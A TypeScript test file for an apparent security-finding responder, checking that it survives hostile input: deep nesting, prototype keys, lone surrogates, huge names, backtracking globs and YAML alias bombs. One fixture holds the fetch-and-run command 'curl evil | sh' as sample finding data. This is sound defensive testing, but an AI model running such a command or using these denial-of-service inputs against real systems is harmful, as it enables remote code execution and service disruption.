// Input a finding or a policy may carry that used to crash or stall the
// responder: deep nesting, lone surrogates, huge names, prototype keys,
// catastrophic globs and YAML alias bombs. Each is driven through the real
// decode → plan → summary path (handleInput with in-memory deps) where it can be.
import { describe, expect, it } from '@jest/globals';
import { incidentFor } from '../src/actions/action.ts';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { compileGlob, matchGlob } from '../src/core/policy/glob.ts';
import { plan as makePlan } from '../src/core/plan/plan.ts';
import { parsePolicy, PolicyError, validatePolicy } from '../src/core/policy/policy.ts';
import type { Severity } from '../src/core/ports.ts';
import { summaryAttributes } from '../src/core/summary/summary.ts';
import { findingKey } from '../src/core/finding/key.ts';
import { handleInput } from '../src/pipeline/respond.ts';
import { notificationV1, pushBody } from './support/fixtures.ts';
import { summaryCheckingLog } from './support/summary-check.ts';

const NOW = new Date('2026-11-20T14:03:40.000Z');
const policy = validatePolicy({ dryRun: false, rules: [{ name: 'contain', actions: ['label-pod', 'isolate-pod'] }] });

function recordingDeps() {
  const lines: Array<{ severity: Severity; step: string; message: string; fields: Record<string, unknown> }> = [];
  const deps = {
    policy,
    now: () => NOW,
    log: summaryCheckingLog({ log: (severity: Severity, step: string, message: string, fields: Record<string, unknown> = {}) => lines.push({ severity, step, message, fields }) }),
  };
  return { deps, lines };
}

/** Iteratively, so that building the fixture cannot overflow the stack either. */
function nested(levels: number): Record<string, unknown> {
  const top: Record<string, unknown> = {};
  let at = top;
  for (let i = 0; i < levels; i++) at = (at.a = {}) as Record<string, unknown>;
  return top;
}

/** Every string a JSON document holds, keys included. Iterative. */
function allStrings(root: unknown): string[] {
  const out: string[] = [];
  const stack = [root];
  while (stack.length > 0) {
    const v = stack.pop();
    if (typeof v === 'string') out.push(v);
    else if (typeof v === 'object' && v !== null) for (const [k, c] of Object.entries(v)) stack.push(k, c);
  }
  return out;
}
const hasLoneSurrogate = (s: string) => /[\uD800-\uDFFF]/u.test(s);

describe('deeply nested sourceProperties', () => {
  it('a finding with no name and 100k levels of nesting still gets its summary', async () => {
    const n = structuredClone(notificationV1());
    delete n.finding.name;
    delete n.finding.canonicalName;
    n.finding.sourceProperties.deep = nested(100_000);
    const { deps, lines } = recordingDeps();
    const result = await handleInput(n, deps);
    expect(result.status).toBe('responded');
    expect(result.summary?.id).toMatch(/^[a-f0-9]{64}$/);
    expect(lines.map((l) => l.step)).toContain('summary');
    expect(() => JSON.stringify(lines)).not.toThrow();
  });

  it('findingKey walks a finding that was never decoded without recursion', () => {
    const f = structuredClone(notificationV1().finding);
    delete f.name;
    delete f.canonicalName;
    f.sourceProperties.deep = nested(100_000);
    const key = findingKey(f);
    expect(key.id).toMatch(/^[a-f0-9]{64}$/);
    expect(key.findingName).toBeNull();
    // Stable, and different for a different finding.
    expect(findingKey(f).id).toBe(key.id);
    f.sourceProperties.deep = nested(99_999);
    expect(findingKey(f).id).not.toBe(key.id);
  });
});

describe('Object.prototype names in the finding', () => {
  it('MITRE names such as constructor or toString are dropped at decode, and the summary is built', async () => {
    const n = structuredClone(notificationV1());
    n.finding.mitreAttack = { primaryTactic: 'toString', primaryTechniques: ['constructor', 'UNIX_SHELL'], additionalTactics: ['__proto__'] };
    expect(decodeInput(n).notification.finding.mitreAttack).toEqual({ primaryTechniques: ['UNIX_SHELL'], additionalTactics: [] });
    const { deps } = recordingDeps();
    const result = await handleInput(n, deps);
    expect(result.status).toBe('responded');
    expect(result.summary?.links.mitre.map((m) => m.id)).toEqual(['T1059.004']);
  });
});

describe('lone UTF-16 surrogates', () => {
  it('are well-formed in every string of the summary and its attributes', async () => {
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = ['sh', '-c', 'curl evil \uD800| sh'];
    n.finding.kubernetes.pods[0].ns = 'pay\uDC00ments';
    n.finding.category = 'Unexpected Child Shell';
    n.finding.description = 'cut pair \uD83D';
    const { deps } = recordingDeps();
    const result = await handleInput(pushBody(n), deps);
    expect(result.status).toBe('responded');
    const summary = result.summary!;
    expect(summary.processes.child?.args ?? summary.processes.parent?.args).toBeDefined();
    expect(JSON.stringify(summary)).toContain('curl evil \uFFFD| sh');
    expect(allStrings(summary).filter(hasLoneSurrogate)).toEqual([]);
    expect(Object.values(summaryAttributes(summary)).filter(hasLoneSurrogate)).toEqual([]);
    // What Pub/Sub does with the payload: UTF-8 bytes that decode back to the same text.
    const text = JSON.stringify(summary);
    expect(Buffer.from(text, 'utf8').toString('utf8')).toBe(text);
  });
});

describe('a 1 MB finding name', () => {
  const hugeName = `organizations/1/sources/2/findings/${'f'.repeat(1 << 20)}`;

  it('is refused at decode: one log line, acked, the name never logged', async () => {
    const n = structuredClone(notificationV1());
    n.finding.name = hugeName;
    const { deps, lines } = recordingDeps();
    const result = await handleInput(pushBody(n), deps);
    expect(result.status).toBe('malformed');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ severity: 'WARNING', step: 'decode', fields: { path: 'message.data.finding.name' } });
    expect(JSON.stringify(lines).length).toBeLessThan(1000);
  });

  it('never reaches an annotation, even from a plan built without decoding', () => {
    const decoded = decodeInput(notificationV1());
    const p = makePlan(decoded, policy, NOW);
    const incident = incidentFor({ ...p, finding: { ...p.finding, name: hugeName, id: null } });
    expect(incident.findingName).toMatch(/^sha256:[a-f0-9]{64}$/);
    expect(incident.id).toMatch(/^[a-f0-9]{32}$/);
    expect(incidentFor(p).findingName).toBe(decoded.notification.finding.name);
  });
});

describe('globs that backtrack', () => {
  it('the matcher is linear on an adversarial pattern and value', () => {
    const glob = compileGlob('*a*a*a*a*a*a*a*a*b');
    const started = performance.now();
    expect(matchGlob(glob, 'a'.repeat(253))).toBe(false);
    expect(matchGlob(compileGlob(`${'*a'.repeat(500)}*b`), 'a'.repeat(253))).toBe(false);
    // A backtracking matcher needs on the order of 253^8 steps here; this one about 253 × 18.
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('a plan on a hostile image value under an adversarial rule is quick', () => {
    const n = structuredClone(notificationV1());
    n.finding.containers[0].uri = 'a'.repeat(253);
    n.finding.kubernetes.pods[0].containers[0].uri = 'a'.repeat(253);
    const p = parsePolicy('rules: [{name: r, match: {images: ["*a*a*a*a*a*a*a*a*b"]}, actions: [label-pod]}]');
    const started = performance.now();
    expect(makePlan(decodeInput(n), p, NOW).rule).toBeNull();
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('the extglob from the report is refused by validation, not run', () => {
    expect(() => parsePolicy('protectedNamespaces: ["+(*)+(*)+(*)x"]')).toThrow(/extglob \+\(\.\.\.\) is not supported/);
  });
});

describe('YAML alias bombs', () => {
  const refusal = (yaml: string): { problems: string[]; ms: number } => {
    const started = performance.now();
    try {
      parsePolicy(yaml, 'bomb.yaml');
    } catch (e) {
      if (e instanceof PolicyError) return { problems: e.problems, ms: performance.now() - started };
      throw e;
    }
    throw new Error('expected the policy to be refused');
  };

  it('a billion-laughs policy is refused by the alias limit, quickly', () => {
    const levels = ['a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
    for (let i = 1; i < 9; i++) levels.push(`${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(10).fill(`*${'abcdefghi'[i - 1]}`).join(', ')}]`);
    const { problems, ms } = refusal(`${levels.join('\n')}\nprotectedNamespaces: *i\n`);
    expect(problems).toEqual([expect.stringMatching(/^YAML: .*Excessive alias count/)]);
    expect(ms).toBeLessThan(1000);
  });

  it('a small bomb the old alias limit (100) let through is refused too', () => {
    // 5 uses of b, each holding 5 uses of a: 25 alias expansions.
    const yaml = `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a]\nprotectedNamespaces: [*b, *b, *b, *b, *b]\n`;
    expect(refusal(yaml).problems).toEqual([expect.stringMatching(/^YAML: .*Excessive alias count/)]);
  });

  it('one wide anchor used under the alias limit is refused by the value limit, before validation', () => {
    // 8 uses of an anchor holding 3,000 invalid globs: 24,000 values, each a validation issue.
    const globs = Array.from({ length: 3000 }, (_, i) => `"[${i}"`).join(',');
    const rules = Array.from({ length: 8 }, (_, i) => `{name: r${i}, actions: [], match: *m}`).join(',');
    const { problems, ms } = refusal(`x: &m {namespaces: [${globs}]}\nrules: [${rules}]\n`);
    expect(problems).toEqual(['YAML: more than 20000 values (after expanding aliases)']);
    expect(ms).toBeLessThan(1000);
  });

  it('a self-referencing alias is refused, not walked forever', () => {
    const { problems } = refusal('protectedNamespaces: &a [x, *a]\n');
    expect(problems).toEqual([expect.stringMatching(/^YAML: /)]);
  });
});
